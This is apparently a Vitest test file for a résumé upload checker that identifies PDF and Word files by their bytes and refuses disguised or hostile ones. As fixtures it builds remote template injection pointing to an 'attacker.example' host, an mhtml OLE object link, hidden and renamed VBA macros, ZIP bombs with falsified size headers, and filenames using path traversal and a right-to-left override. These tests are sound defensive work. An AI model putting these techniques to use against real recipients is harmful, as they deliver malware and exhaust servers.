import { describe, expect, it } from "vitest";
import { makeDocx, makePdf, makeZip } from "../../tests/setup/resume-files";
import { checkResume, displayName } from "./resume-check.server";
import { RESUME_MAX_BYTES } from "./application-fields";

/** Résumés judged by their bytes: the real ones pass, the pretenders are each refused with their own reason. */

describe("a résumé is what its bytes say", () => {
  it("takes a real PDF and a real Word document, whatever they are called", async () => {
    expect(await checkResume(await makePdf(), "CV Jean Tremblay.pdf")).toEqual({ ok: true, kind: "pdf", name: "CV Jean Tremblay.pdf" });
    expect(await checkResume(await makeDocx(), "Marie Gagnon CV.docx")).toEqual({ ok: true, kind: "docx", name: "Marie Gagnon CV.docx" });
    // A PDF with a misleading name is a PDF: it is stored and offered to staff as one.
    expect(await checkResume(await makePdf(), "resume.docx")).toEqual({ ok: true, kind: "pdf", name: "resume.pdf" });
    expect(await checkResume(await makePdf(), "invoice.pdf.exe")).toEqual({ ok: true, kind: "pdf", name: "invoice.pdf" });
    expect(await checkResume(await makeDocx(), "cv.pdf")).toEqual({ ok: true, kind: "docx", name: "cv.docx" });
  });

  it("refuses an empty file, text named .pdf, a cut-off PDF and an executable", async () => {
    expect(await checkResume(new Uint8Array(0), "cv.pdf")).toEqual({ ok: false, problem: "empty" });
    expect(await checkResume(Buffer.from("Jean Tremblay\nIngénieur en structures\n"), "cv.pdf")).toEqual({
      ok: false,
      problem: "not-pdf-or-docx",
    });
    const pdf = await makePdf();
    expect(await checkResume(pdf.subarray(0, Math.floor(pdf.length / 2)), "cv.pdf")).toEqual({ ok: false, problem: "pdf-damaged" });
    expect(await checkResume(Buffer.concat([Buffer.from("MZ"), Buffer.alloc(512)]), "cv.docx")).toEqual({
      ok: false,
      problem: "not-pdf-or-docx",
    });
    // The magic bytes somewhere else than at the start do not make a PDF.
    expect(await checkResume(Buffer.concat([Buffer.from("<html>"), pdf]), "cv.pdf")).toEqual({ ok: false, problem: "not-pdf-or-docx" });
  });

  it("refuses a file over 5 MB before looking inside it", async () => {
    const big = Buffer.alloc(5 * 1024 * 1024 + 1);
    big.write("%PDF-1.7\n");
    expect(await checkResume(big, "cv.pdf")).toEqual({ ok: false, problem: "too-large" });
  });

  it("refuses a ZIP that is not a Word document", async () => {
    const photos = await makeZip([{ name: "photo.jpg", data: Buffer.alloc(100, 7) }]);
    expect(await checkResume(photos, "cv.docx")).toEqual({ ok: false, problem: "zip-not-docx" });
    expect(await checkResume(await makeDocx({ without: "word/document.xml" }), "cv.docx")).toEqual({ ok: false, problem: "zip-not-docx" });
    expect(await checkResume(await makeDocx({ without: "[Content_Types].xml" }), "cv.docx")).toEqual({
      ok: false,
      problem: "zip-not-docx",
    });
    // A spreadsheet or a presentation has [Content_Types].xml too, but its main part is not a Word document.
    const sheet = await makeDocx({ mainType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml" });
    expect(await checkResume(sheet, "cv.docx")).toEqual({ ok: false, problem: "zip-not-docx" });
    const damaged = await makeDocx();
    expect(await checkResume(damaged.subarray(0, damaged.length - 30), "cv.docx")).toEqual({ ok: false, problem: "zip-damaged" });
  });

  it("refuses macro-enabled and password-protected Word documents", async () => {
    const macro = await makeDocx({ mainType: "application/vnd.ms-word.document.macroEnabled.main+xml" });
    expect(await checkResume(macro, "cv.docx")).toEqual({ ok: false, problem: "docx-macros" });
    const hidden = await makeDocx({ extra: [{ name: "word/vbaProject.bin", data: Buffer.alloc(64, 1) }] });
    expect(await checkResume(hidden, "cv.docx")).toEqual({ ok: false, problem: "docx-macros" });
    // Bit 0 of the general-purpose flags marks an encrypted entry, in the local header and the directory.
    const encrypted = await makeDocx();
    const flagged = Buffer.from(encrypted);
    for (const signature of [Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from([0x50, 0x4b, 0x01, 0x02])]) {
      let at = flagged.indexOf(signature);
      while (at !== -1) {
        const flagsAt = at + (signature[2] === 0x03 ? 6 : 8);
        flagged.writeUInt16LE(flagged.readUInt16LE(flagsAt) | 1, flagsAt);
        at = flagged.indexOf(signature, at + 4);
      }
    }
    expect(await checkResume(flagged, "cv.docx")).toEqual({ ok: false, problem: "docx-protected" });
  });

  it("refuses macros declared under another name, and documents that fetch a template or an object from elsewhere", async () => {
    // A VBA project stored as a .bin of any name, declared through a default content type and a relationship.
    const renamed = await makeDocx({
      contentTypesExtra: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      extra: [
        { name: "word/vbaData2.bin", data: Buffer.alloc(64, 1) },
        {
          name: "word/_rels/document.xml.rels",
          data: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaData2.bin"/></Relationships>',
        },
      ],
    });
    expect(await checkResume(renamed, "cv.docx")).toEqual({ ok: false, problem: "docx-macros" });
    // An attached template on another site ("template injection"), and an object loaded from elsewhere.
    for (const [type, target] of [
      ["http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "http://attacker.example/evil.dotm"],
      ["http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "mhtml:http://attacker.example/x.html!x-usc:x"],
    ]) {
      const remote = await makeDocx({
        extra: [
          {
            name: "word/_rels/settings.xml.rels",
            data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
          },
        ],
      });
      expect(await checkResume(remote, "cv.docx"), type).toEqual({ ok: false, problem: "docx-external" });
    }
    // The same parts written as XML allows: a character reference, a ">" inside a value, UTF-16.
    const rels = (attributes: string) =>
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ${attributes}/></Relationships>`;
    const template = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
    const disguised: [string, string | Buffer][] = [
      ["a character reference", rels(`Type="${template}" Target="http://attacker.example/evil.dotm" TargetMode="Ex&#116;ernal"`)],
      ["a > inside a value", rels(`Type="${template}" Target="http://attacker.example/evil.dotm#>" TargetMode="External"`)],
      [
        "UTF-16",
        Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(
            rels(`Type="${template}" Target="http://attacker.example/evil.dotm" TargetMode="External"`).replace("UTF-8", "UTF-16"),
            "utf16le",
          ),
        ]),
      ],
    ];
    for (const [how, data] of disguised) {
      const remote = await makeDocx({ extra: [{ name: "word/_rels/settings.xml.rels", data }] });
      expect(await checkResume(remote, "cv.docx"), how).toEqual({ ok: false, problem: "docx-external" });
    }
    const encodedMacro = await makeDocx({
      contentTypesExtra: '<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
    });
    expect(await checkResume(encodedMacro, "cv.docx")).toEqual({ ok: false, problem: "docx-macros" });
    // A part that is not XML at all is not a Word document.
    const broken = await makeDocx({ extra: [{ name: "word/_rels/settings.xml.rels", data: Buffer.from([0xc3, 0x28, 0x3c]) }] });
    expect(await checkResume(broken, "cv.docx")).toEqual({ ok: false, problem: "zip-not-docx" });
    // A link to the candidate's profile is an ordinary hyperlink, and welcome.
    const linked = await makeDocx({
      extra: [
        {
          name: "word/_rels/document.xml.rels",
          data: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/someone" TargetMode="External"/></Relationships>',
        },
      ],
    });
    expect(await checkResume(linked, "cv.docx")).toMatchObject({ ok: true, kind: "docx" });
  });

  it("refuses an entry whose directory understates what it unpacks to, wherever it is in the archive", async () => {
    // 4 MB of zeros deflate to about 4 KB; the directory and the local header both claim 1,000 bytes.
    const bomb = await makeDocx({ extra: [{ name: "word/media/image1.png", data: Buffer.alloc(4 * 1024 * 1024) }] });
    const lying = Buffer.from(bomb);
    const name = Buffer.from("word/media/image1.png");
    for (const [signature, sizeAt] of [
      [Buffer.from([0x50, 0x4b, 0x03, 0x04]), 22],
      [Buffer.from([0x50, 0x4b, 0x01, 0x02]), 24],
    ] as const) {
      for (let at = lying.indexOf(signature); at !== -1; at = lying.indexOf(signature, at + 4)) {
        const nameAt = at + (signature[2] === 0x03 ? 30 : 46);
        if (lying.subarray(nameAt, nameAt + name.length).equals(name)) lying.writeUInt32LE(1000, at + sizeAt);
      }
    }
    expect(await checkResume(bomb, "cv.docx")).toMatchObject({ ok: true });
    expect(await checkResume(lying, "cv.docx")).toEqual({ ok: false, problem: "zip-damaged" });
  });

  it("refuses a Word document that unpacks to more than 100 MB with a message that says so", async () => {
    // 101 MB of zeros deflate to about 100 KB: a real document's parts, honestly declared, but too many bytes to unpack.
    const huge = await makeDocx({ extra: [{ name: "word/media/image1.png", data: Buffer.alloc(101 * 1024 * 1024) }] });
    expect(huge.length).toBeLessThan(RESUME_MAX_BYTES);
    expect(await checkResume(huge, "cv.docx")).toEqual({ ok: false, problem: "docx-unpacks-too-large" });
  });

  it("does not unpack a ZIP bomb: a huge [Content_Types].xml is refused, whether its size is declared or hidden", async () => {
    // 8 MB of spaces deflate to about 8 KB: a small file that inflates a thousandfold.
    const packed = await makeZip([
      { name: "[Content_Types].xml", data: Buffer.alloc(8 * 1024 * 1024, 0x20) },
      { name: "word/document.xml", data: "<w:document/>" },
    ]);
    expect(packed.length).toBeLessThan(64 * 1024);
    expect(await checkResume(packed, "cv.docx")).toEqual({ ok: false, problem: "zip-not-docx" });
    // The same archive whose directory lies, declaring 900 bytes: inflating stops at the declared size, and
    // the entry that goes on past it is a damaged archive (read whole, it would be refused as too large).
    const lying = Buffer.from(packed);
    const directory = lying.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    lying.writeUInt32LE(900, directory + 24);
    expect(await checkResume(lying, "cv.docx")).toEqual({ ok: false, problem: "zip-damaged" });
    // Thousands of entries: refused from the directory's count alone.
    const many = await makeDocx({ extra: Array.from({ length: 1001 }, (_, index) => ({ name: `word/media/${index}.bin`, data: "x" })) });
    expect(await checkResume(many, "cv.docx")).toEqual({ ok: false, problem: "zip-not-docx" });
  });
});

describe("the name staff see", () => {
  it("keeps the last path segment, drops control and direction characters, and ends with the real type", () => {
    expect(displayName("C:\\fakepath\\CV - Jean.pdf", "pdf")).toBe("CV - Jean.pdf");
    expect(displayName("../../etc/passwd", "pdf")).toBe("passwd.pdf");
    // U+202E turns "cv‮fdp.exe" into what reads as "cvexe.pdf".
    expect(displayName("cv\u202Efdp.exe", "pdf")).toBe("cvfdp.pdf");
    expect(displayName("résumé\u0000\r\n<script>.docx", "docx")).toBe("résuméscript.docx");
    expect(displayName("   ", "pdf")).toBe("resume.pdf");
    expect(displayName(".htaccess", "docx")).toBe("htaccess.docx");
    expect(displayName("..pdf", "pdf")).toBe("resume.pdf");
    expect(displayName(`${"a".repeat(300)}.pdf`, "pdf")).toBe(`${"a".repeat(100)}.pdf`);
    expect(displayName("Cafe\u0301 CV.pdf", "pdf")).toBe("Café CV.pdf");
  });
});
